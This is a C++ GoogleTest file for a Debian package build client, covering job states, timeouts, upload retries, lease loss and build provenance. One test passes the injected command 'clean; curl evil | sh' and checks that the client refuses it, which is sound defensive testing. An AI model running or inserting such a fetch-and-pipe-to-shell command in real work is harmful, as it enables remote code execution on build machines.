#include "client/job_run.h"

#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <map>

#include "client/fake_controller_api.h"
#include "client/fake_runner.h"
#include "testing/test_dir.h"

namespace cbit::client {
namespace {
namespace fs = std::filesystem;

constexpr Id kJob = 42;

BuildRequest Request() {
  BuildRequest r;
  r.job.id = kJob;
  auto& pi = r.job.instance;
  pi.package = {1, "hello-cbit", "1.0"};
  pi.arch.name = "amd64";
  pi.suite.name = "bookworm";
  pi.dist.name = "Debian";
  pi.format.name = "deb";
  r.transport = {"git", "https://example.org/hello.git", "abc123"};
  return r;
}

ClientConfig Config(const fs::path& root) {
  ClientConfig c;
  c.clientid = "build_client_test";
  c.buildroot = (root / "build").string();
  c.build.kind = BuilderKind::kHost;
  c.dput_dest = "incoming";
  c.dput_config = (root / "dput.cf").string();
  return c;
}

// The git clone makes the tree a real fetch would; dpkg-buildpackage
// answers with `build`.
FakeRunner::Responder Builds(const CommandResult& build) {
  return [build](const Command& cmd) {
    CommandResult ok;
    ok.exit_code = 0;
    if (cmd.argv.size() > 3 && cmd.argv[3] == "clone") {
      fs::create_directories(fs::path(cmd.argv.back()) / "debian");
    }
    return cmd.argv.front() == "dpkg-buildpackage" ? build : ok;
  };
}

JobReport RunTestJob(
    const ClientConfig& config, ControllerApi& api, Runner& runner,
    std::function<bool()> cancelled = [] { return false; },
    std::function<bool()> stopping = [] { return false; }) {
  JobEnvironment env{config, api, runner, {.interval = std::chrono::milliseconds(10)}};
  return RunJob(Request(), env, {std::move(cancelled), std::move(stopping)},
                std::chrono::steady_clock::now());
}

TEST(RunJob, DryRunReportsBuildingThenDoneWithEveryCommandLogged) {
  testing::TestDir tmp;
  const fs::path& root = tmp.path();
  ClientConfig config = Config(root);
  config.dry_run = true;
  FakeControllerApi api;
  api.AddJob(kJob, "Waiting");
  DryRunRunner runner;
  JobReport r = RunTestJob(config, api, runner);
  EXPECT_EQ(r.settle, Settle::kAck);
  EXPECT_EQ(r.outcome, Outcome::kBuilt);
  EXPECT_EQ(api.History(kJob), (std::vector<std::string>{"Waiting", "Building", "Done"}));
  std::string log = api.Log(kJob, 1);
  EXPECT_NE(log.find("[dry-run] $ git -c protocol.ext.allow=never clone"), std::string::npos);
  EXPECT_NE(log.find("[dry-run] $ dpkg-buildpackage -us -uc -B"), std::string::npos) << log;
  EXPECT_NE(log.find("[dry-run] $ dput -f -c"), std::string::npos) << log;
  EXPECT_FALSE(fs::exists(root / "build" / "job-42"));  // cleaned
  EXPECT_LE(r.in_tools, r.total);
}

TEST(RunJob, ABuildFailureIsReportedFailedWithItsOutputInTheLog) {
  testing::TestDir tmp;
  const fs::path& root = tmp.path();
  FakeControllerApi api;
  api.AddJob(kJob, "Waiting");
  FakeRunner runner;
  runner.respond = Builds({.exit_code = 2, .output = "hello.c:1: error: expected ';'\n"});
  JobReport r = RunTestJob(Config(root), api, runner);
  EXPECT_EQ(r.outcome, Outcome::kBuildFailed);
  EXPECT_EQ(r.settle, Settle::kAck);
  EXPECT_EQ(api.History(kJob).back(), "Failed");
  EXPECT_NE(api.Log(kJob, 1).find("hello.c:1: error"), std::string::npos);
}

TEST(RunJob, ADependencyWaitIsReportedBlockedAndRetriedLater) {
  testing::TestDir tmp;
  const fs::path& root = tmp.path();
  FakeControllerApi api;
  api.AddJob(kJob, "Waiting");
  FakeRunner runner;
  runner.respond = Builds(
      {.exit_code = 3, .output = "dpkg-checkbuilddeps: error: Unmet build dependencies: foo\n"});
  JobReport r = RunTestJob(Config(root), api, runner);
  EXPECT_EQ(r.outcome, Outcome::kDependencyWait);
  EXPECT_EQ(r.settle, Settle::kRetryLater);
  EXPECT_EQ(api.History(kJob).back(), "Blocked");
}

TEST(RunJob, ACancelIsReportedCancelledAndAShutdownHandsTheJobBack) {
  testing::TestDir tmp;
  const fs::path& root = tmp.path();
  FakeRunner runner;
  runner.respond = Builds({.exit_code = 130, .cancelled = true});
  FakeControllerApi api;
  api.AddJob(kJob, "Waiting");
  JobReport cancelled = RunTestJob(Config(root), api, runner, [] { return true; });
  EXPECT_EQ(cancelled.settle, Settle::kAck);
  EXPECT_EQ(api.History(kJob).back(), "Cancelled");

  FakeControllerApi api2;
  api2.AddJob(kJob, "Waiting");
  JobReport stopped = RunTestJob(
      Config(root), api2, runner, [] { return false; }, [] { return true; });
  EXPECT_EQ(stopped.settle, Settle::kRequeue);
  EXPECT_EQ(api2.History(kJob).back(), "Waiting");
}

// The request's `commands` (pyBit's debian/rules targets) run after the
// checkout, before the build; one that is not a target name fails the job
// with the reason in its log, and nothing runs.
TEST(RunJob, TheRequestsRulesTargetsRunBeforeTheBuildOrRefuseTheJob) {
  testing::TestDir tmp;
  const fs::path& root = tmp.path();
  BuildRequest request = Request();
  request.commands = {"fakeroot debian/rules get-orig-source"};
  FakeControllerApi api;
  api.AddJob(kJob, "Waiting");
  FakeRunner runner;
  runner.respond = Builds({.exit_code = 0});
  JobEnvironment env{Config(root), api, runner, {.interval = std::chrono::milliseconds(10)}};
  JobSignals signals{[] { return false; }, [] { return false; }};
  RunJob(request, env, signals, std::chrono::steady_clock::now());
  std::vector<std::string> programs;
  for (const auto& argv : runner.Argvs()) programs.push_back(argv[0] + " " + argv[1]);
  // git clone, git checkout, the target, then the build.
  ASSERT_GE(programs.size(), 4u);
  EXPECT_EQ(programs[1], "git -C");
  EXPECT_EQ(runner.Argvs()[2],
            (std::vector<std::string>{"fakeroot", "debian/rules", "get-orig-source"}));
  EXPECT_EQ(programs[3], "dpkg-buildpackage -us");

  FakeControllerApi api2;
  api2.AddJob(kJob, "Waiting");
  FakeRunner runner2;
  request.commands = {"get-orig-source", "clean; curl evil | sh"};
  JobEnvironment env2{Config(root), api2, runner2, {.interval = std::chrono::milliseconds(10)}};
  JobReport refused = RunJob(request, env2, signals, std::chrono::steady_clock::now());
  EXPECT_NE(refused.outcome, Outcome::kBuilt);
  EXPECT_EQ(api2.History(kJob).back(), "Failed");
  EXPECT_TRUE(runner2.commands.empty());
  EXPECT_NE(api2.Log(kJob, 1).find("'clean; curl evil | sh'"), std::string::npos)
      << api2.Log(kJob, 1);
}

TEST(RunJob, AControllerBrieflyAwayLosesNoLogText) {
  testing::TestDir tmp;
  const fs::path& root = tmp.path();
  ClientConfig config = Config(root);
  config.dry_run = true;
  FakeControllerApi api;
  api.AddJob(kJob, "Waiting");
  api.FailNext(2);  // the Building report is retried
  DryRunRunner runner;
  JobReport r = RunTestJob(config, api, runner);
  EXPECT_EQ(api.History(kJob).back(), "Done");
  EXPECT_EQ(r.settle, Settle::kAck);
  std::string log = api.Log(kJob, 1);
  EXPECT_EQ(log.rfind("cbit-client build_client_test: job 42", 0), 0u) << log;
  EXPECT_NE(log.find("== built"), std::string::npos) << log;
}

// Runs nothing, as a dry run; the controller expires the lease while the
// package builds (the client was silent for longer than its lease).
class ExpiringRunner final : public Runner {
 public:
  explicit ExpiringRunner(FakeControllerApi& api) : api_(api) {}
  CommandResult Run(const Command& cmd, const LogSink& sink, const CancelHook& cancel) override {
    argvs.push_back(cmd.argv);
    if (cmd.argv.front() == "dpkg-buildpackage") api_.ExpireLease(kJob);
    return dry_.Run(cmd, sink, cancel);
  }
  bool RunsCommands() const override { return false; }
  std::vector<std::vector<std::string>> argvs;

 private:
  FakeControllerApi& api_;
  DryRunRunner dry_;
};

TEST(RunJob, ALeaseLostDuringTheBuildUploadsAndReportsNothing) {
  testing::TestDir tmp;
  ClientConfig config = Config(tmp.path());
  config.dry_run = true;
  config.lease_renew = std::chrono::hours(1);  // only the check before the upload sees it
  FakeControllerApi api;
  api.AddJob(kJob, "Waiting");
  ExpiringRunner runner(api);
  JobReport r = RunTestJob(config, api, runner);
  EXPECT_TRUE(r.lease_lost);
  EXPECT_EQ(r.settle, Settle::kAck);
  EXPECT_EQ(api.History(kJob), (std::vector<std::string>{"Waiting", "Building", "Waiting"}));
  bool built = false;
  for (const auto& argv : runner.argvs) {
    built = built || argv.front() == "dpkg-buildpackage";
    EXPECT_NE(argv.front(), "dput");
  }
  EXPECT_TRUE(built);
}

// The build makes the .changes a real one would; dput answers `upload`, git
// clone `clone`.
FakeRunner::Responder Uploads(const CommandResult& clone, const CommandResult& upload) {
  return [clone, upload](const Command& cmd) {
    CommandResult ok;
    ok.exit_code = 0;
    if (cmd.argv.size() > 3 && cmd.argv[3] == "clone") {
      if (!clone.ok()) return clone;
      fs::create_directories(fs::path(cmd.argv.back()) / "debian");
    }
    if (cmd.argv.front() == "dpkg-buildpackage") {
      std::ofstream(fs::path(cmd.cwd).parent_path() / "hello-cbit_1.0_amd64.changes")
          << "Source: hello-cbit\nFiles:\n";
    }
    return cmd.argv.front() == "dput" ? upload : ok;
  };
}

JobReport RunRetriedJob(const ClientConfig& config, ControllerApi& api, Runner& runner,
                        int retries_done) {
  JobEnvironment env{config, api, runner, {.interval = std::chrono::milliseconds(10)}};
  env.infra_retries_done = retries_done;
  return RunJob(Request(), env, {[] { return false; }, [] { return false; }},
                std::chrono::steady_clock::now());
}

TEST(RunJob, AFetchOutOfTimeFailsTheJobWithTheClassTimeoutUnderItsSuitesLimit) {
  testing::TestDir tmp;
  ClientConfig config = Config(tmp.path());
  config.limits.fetch = std::chrono::seconds(600);
  config.suite_limits["bookworm"] = config.limits;
  config.suite_limits["bookworm"].fetch = std::chrono::seconds(7);
  FakeControllerApi api;
  api.AddJob(kJob, "Waiting");
  FakeRunner runner;
  CommandResult hung{.exit_code = 143, .timed_out = true};
  runner.respond = Uploads(hung, {.exit_code = 0});
  JobReport r = RunTestJob(config, api, runner);
  ASSERT_FALSE(runner.commands.empty());
  ASSERT_TRUE(runner.commands[0].timeout);
  EXPECT_LE(*runner.commands[0].timeout, std::chrono::seconds(7));
  EXPECT_GT(*runner.commands[0].timeout, std::chrono::seconds(6));
  EXPECT_EQ(r.settle, Settle::kAck);
  EXPECT_EQ(r.failure, FailureClass::kTimeout);
  EXPECT_EQ(api.History(kJob), (std::vector<std::string>{"Waiting", "Building", "Failed"}));
  EXPECT_EQ(api.Reasons(kJob).back(),
            "timeout: git timed out: the fetch step's limit of 7 s ran out");
  EXPECT_NE(api.Log(kJob, 1).find("(timeout: git timed out"), std::string::npos)
      << api.Log(kJob, 1);
}

TEST(RunJob, EachStepRunsUnderItsOwnLimit) {
  testing::TestDir tmp;
  ClientConfig config = Config(tmp.path());
  config.limits = {std::chrono::seconds(100), std::chrono::seconds(2000), std::chrono::seconds(30)};
  FakeControllerApi api;
  api.AddJob(kJob, "Waiting");
  FakeRunner runner;
  runner.respond = Uploads({.exit_code = 0}, {.exit_code = 0});
  RunTestJob(config, api, runner);
  ASSERT_EQ(api.History(kJob).back(), "Done") << api.Log(kJob, 1);
  std::map<std::string, std::chrono::milliseconds> limit;
  for (const auto& c : runner.commands) {
    ASSERT_TRUE(c.timeout) << DescribeArgv(c.argv);
    limit[c.argv.front()] = *c.timeout;
  }
  EXPECT_GT(limit["git"], std::chrono::seconds(99));
  EXPECT_LE(limit["git"], std::chrono::seconds(100));
  EXPECT_GT(limit["dpkg-buildpackage"], std::chrono::seconds(1999));
  EXPECT_LE(limit["dpkg-buildpackage"], std::chrono::seconds(2000));
  EXPECT_GT(limit["dput"], std::chrono::seconds(29));
  EXPECT_LE(limit["dput"], std::chrono::seconds(30));
}

TEST(RunJob, AFailedUploadIsHandedBackForARetryThenFailsWithItsClass) {
  testing::TestDir tmp;
  ClientConfig config = Config(tmp.path());
  config.infra_retries = 2;
  config.retry_base = std::chrono::seconds(30);
  FakeControllerApi api;
  api.AddJob(kJob, "Waiting");
  FakeRunner runner;
  runner.respond = Uploads({.exit_code = 0},
                           {.exit_code = 1, .output = "Connection refused: cannot reach host\n"});
  JobReport r = RunRetriedJob(config, api, runner, 0);
  EXPECT_EQ(r.settle, Settle::kRetryInfra);
  EXPECT_EQ(r.retry_delay, std::chrono::seconds(30));
  EXPECT_EQ(r.failure, FailureClass::kUpload);
  EXPECT_EQ(api.History(kJob), (std::vector<std::string>{"Waiting", "Building", "Waiting"}));
  EXPECT_EQ(api.Reasons(kJob).back(), "upload: retry 1 of 2 in 30 s: dput exited with 1");

  r = RunRetriedJob(config, api, runner, 2);
  EXPECT_EQ(r.settle, Settle::kAck);
  EXPECT_EQ(api.History(kJob).back(), "Failed");
  EXPECT_EQ(api.Reasons(kJob).back(), "upload: failed after 2 retries: dput exited with 1");
}

TEST(RunJob, AWorkDirectoryLeftByADeadClientIsEmptiedAndTheJobsIsRemovedAfterIt) {
  testing::TestDir tmp;
  ClientConfig config = Config(tmp.path());
  fs::create_directories(fs::path(config.buildroot) / "job-42" / "hello-cbit" / "debian");
  FakeControllerApi api;
  api.AddJob(kJob, "Waiting");
  FakeRunner runner;
  runner.respond = Uploads({.exit_code = 0}, {.exit_code = 0});
  RunTestJob(config, api, runner);
  // The stale tree would have made the clone fail ("already exists").
  EXPECT_EQ(api.History(kJob).back(), "Done") << api.Log(kJob, 1);
  EXPECT_FALSE(fs::exists(fs::path(config.buildroot) / "job-42"));
}

// The report that ends the attempt carries its provenance: the .buildinfo
// the build left beside its .changes, the client's and builder's versions.
TEST(RunJob, TheEndOfAnAttemptReportsItsBuildinfoAndVersions) {
  testing::TestDir tmp;
  FakeControllerApi api;
  api.AddJob(kJob, "Waiting");
  FakeRunner runner;
  auto uploads = Uploads({.exit_code = 0}, {.exit_code = 0});
  runner.respond = [uploads](const Command& cmd) {
    if (cmd.argv.front() == "dpkg-buildpackage") {
      std::ofstream(fs::path(cmd.cwd).parent_path() / "hello-cbit_1.0_amd64.buildinfo")
          << "Format: 1.0\nSource: hello-cbit\n";
    }
    return uploads(cmd);
  };
  RunTestJob(Config(tmp.path()), api, runner);
  ASSERT_EQ(api.History(kJob).back(), "Done") << api.Log(kJob, 1);
  std::optional<AttemptProvenance> p = api.ProvenanceOf(kJob);
  ASSERT_TRUE(p);
  EXPECT_EQ(p->buildinfo, "Format: 1.0\nSource: hello-cbit\n");
  EXPECT_EQ(p->client_version.rfind("cbit-client ", 0), 0u) << p->client_version;
  EXPECT_EQ(p->builder, "host (dpkg-buildpackage)");
  EXPECT_EQ(p->root_digest, "");  // no root on the host
}

TEST(RunJob, AFailedBuildReportsItsVersionsWithoutABuildinfo) {
  testing::TestDir tmp;
  FakeControllerApi api;
  api.AddJob(kJob, "Waiting");
  FakeRunner runner;
  runner.respond = Builds({.exit_code = 2, .output = "hello.c:1: error: expected ';'\n"});
  RunTestJob(Config(tmp.path()), api, runner);
  ASSERT_EQ(api.History(kJob).back(), "Failed");
  std::optional<AttemptProvenance> p = api.ProvenanceOf(kJob);
  ASSERT_TRUE(p);
  EXPECT_FALSE(p->buildinfo);
  EXPECT_EQ(p->builder, "host (dpkg-buildpackage)");
}

}  // namespace
}  // namespace cbit::client
